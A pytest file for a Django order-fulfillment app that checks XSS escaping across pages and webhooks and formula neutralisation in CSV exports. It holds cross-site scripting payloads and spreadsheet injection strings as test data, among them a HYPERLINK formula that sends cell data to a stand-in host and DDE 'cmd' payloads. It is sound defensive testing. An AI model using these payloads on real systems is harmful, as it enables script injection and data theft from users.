"""Markup in everything FlickRocket sends us is shown as text on every page that shows it, and
CSV exports never hand a spreadsheet a formula."""

import csv
import io
import re

import pytest
from django.utils.html import escape

from flickrocket import PriceModel
from fulfillment.prices.selectors import csv_text
from sandbox.seed import XSS_ADDRESS2, XSS_TITLE
from tests.factories import deliver_webhook, webhook_body

pytestmark = pytest.mark.django_db

NAME = '<script>alert("name")</script>'
CITY = "<svg/onload=alert('city')>"
TITLE = "<img src=x onerror=alert('title')>"
TRACKING = "<b>TRK</b>1"
TRACKING_URL = "javascript:alert('url')//{tracking}"
FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "address1": "+cmd|' /C calc'!A0",
    "city": "-2+3+cmd|' /C calc'!A0",
    "address2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title": "=1+1",
}


def _no_raw_markup(html: str, *payloads: str) -> None:
    for payload in payloads:
        assert payload not in html, payload


@pytest.fixture
def hostile_orders(shop, sandbox):
    """The seeded order (script title, img address2) plus one with script in every field."""
    seeded = min(o["id"] for o in sandbox.fulfillments(1202) if o["status"] == 0)
    open_order = sandbox.create_order(
        1202,
        shipping_address={"name": NAME, "city": CITY, "province": NAME, "address1": CITY},
        line_items=[
            {
                "id": 1,
                "product_id": "0000-AAAA",
                "title": TITLE,
                "version": NAME,
                "quantity": 1,
                "gtin": "1",
                "grams": 10,
            }
        ],
        shipping_model=NAME,
    )
    shipped = sandbox.create_order(
        1202,
        status=100,
        tracking_number=TRACKING,
        tracking_url=TRACKING_URL,
        shipping_address={"name": NAME},
        line_items=[{"id": 2, "title": TITLE, "quantity": 2}],
    )
    return seeded, open_order["id"], shipped["id"]


def test_order_pages_show_markup_as_text(shop, hostile_orders):
    seeded, open_id, shipped_id = hostile_orders
    ids = f"{seeded},{open_id},{shipped_id}"
    pages = {
        "open": shop.get("fulfillments/?refresh=1"),
        "all": shop.get("fulfillments/all/?refresh=1"),
        "shipped": shop.get("fulfillments/shipped/?refresh=1"),
        "search": shop.get("fulfillments/all/", {"q": "alert"}),
        "seeded detail": shop.get(f"fulfillments/{seeded}/"),
        "open detail": shop.get(f"fulfillments/{open_id}/"),
        "shipped detail": shop.get(f"fulfillments/{shipped_id}/"),
        "slips": shop.get("fulfillments/slips/", {"ids": ids}),
        "picklist": shop.get("fulfillments/picklist/", {"ids": ids}),
    }
    for label, response in pages.items():
        assert response.status_code == 200, label
        html = response.content.decode()
        _no_raw_markup(html, XSS_TITLE, XSS_ADDRESS2, NAME, CITY, TITLE, TRACKING, "<script>alert")
        assert "javascript:" not in html, label
        # Not vacuous: the hostile texts are on the page, escaped.
        shown = [p for p in (XSS_TITLE, XSS_ADDRESS2, NAME, CITY, TITLE, TRACKING) if escape(p) in html]
        assert shown, f"{label}: none of the hostile fields is shown at all"
    detail = pages["open detail"].content.decode()
    for text in (NAME, CITY, TITLE):
        assert escape(text) in detail
    assert escape(XSS_TITLE) in pages["seeded detail"].content.decode()
    assert escape(XSS_ADDRESS2) in pages["seeded detail"].content.decode()
    assert escape(TRACKING) in pages["shipped detail"].content.decode()


def test_search_text_is_reflected_escaped(shop):
    probe = '"><script>alert("q")</script>'
    for path, params in (
        ("fulfillments/all/", {"q": probe}),
        ("prices/", {"q": probe}),
        ("subscriptions/deliveries/", {"topic": probe}),
    ):
        html = shop.get(path, params).content.decode()
        assert probe not in html and "<script>alert" not in html, path


def test_webhook_payloads_are_shown_as_text(shop, client):
    hostile = {"type": "order", "id": "<script>alert('hook')</script>", "note": TITLE}
    assert deliver_webhook(client, webhook_body(1202, "order/create", hostile)).status_code == 200
    assert deliver_webhook(client, webhook_body(1202, NAME, {"id": CITY})).status_code == 200
    html = shop.get("subscriptions/deliveries/").content.decode()
    _no_raw_markup(html, "<script>alert('hook')</script>", TITLE, NAME, CITY)
    assert escape(NAME) in html


def _csv_cells(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _formula_cells(rows) -> list[str]:
    """Cells a spreadsheet would evaluate; a plain negative number is just a number."""
    return [
        cell
        for row in rows[1:]
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-\d+(\.\d+)?", cell)
    ]


def test_order_export_neutralises_spreadsheet_formulas(shop, sandbox):
    order = sandbox.create_order(
        1202,
        shipping_address={k: v for k, v in FORMULAS.items() if k != "title"},
        line_items=[{"id": 1, "title": FORMULAS["title"], "quantity": 1}],
    )
    response = shop.get("fulfillments/all/", {"refresh": "1", "export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment")
    rows = _csv_cells(response)
    assert any(str(order["id"]) == row[0] for row in rows)
    assert _formula_cells(rows) == []


def test_order_export_keeps_markup_inert(shop, hostile_orders):
    response = shop.get("fulfillments/all/", {"export": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_import_result_neutralises_spreadsheet_formulas(shop):
    from django.core.files.uploadedfile import SimpleUploadedFile

    text = 'order_id,tracking_number\n=HYPERLINK("https://evil.example"),TRK1\n'
    upload = shop.post("fulfillments/import/", {"file": SimpleUploadedFile("t.csv", text.encode())})
    assert upload.status_code == 302
    result = shop.client.get(upload["Location"].rstrip("/") + "/result.csv")
    assert result.status_code == 200
    rows = _csv_cells(result)
    assert len(rows) == 2
    assert _formula_cells(rows) == []


def test_price_export_neutralises_spreadsheet_formulas(shop):
    hostile = PriceModel.from_api(
        {
            "id": 7,
            "name": '=HYPERLINK("https://evil.example")',
            "valid": 1,
            "countries": [{"country_name": "@SUM(A1)", "country_code": "+DE", "price": -500}],
            "currencies": [{"currency": "=cmd|x", "price": 100}],
            "created_at": "2016-04-07T16:16:17",
            "updated_at": "-1+1",
        }
    )
    rows = list(csv.reader(io.StringIO(csv_text([hostile]))))
    assert len(rows) == 3
    assert _formula_cells(rows) == []
    assert rows[1][6] == "-5.00"  # a negative amount stays a number
    response = shop.get("prices/export.csv")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
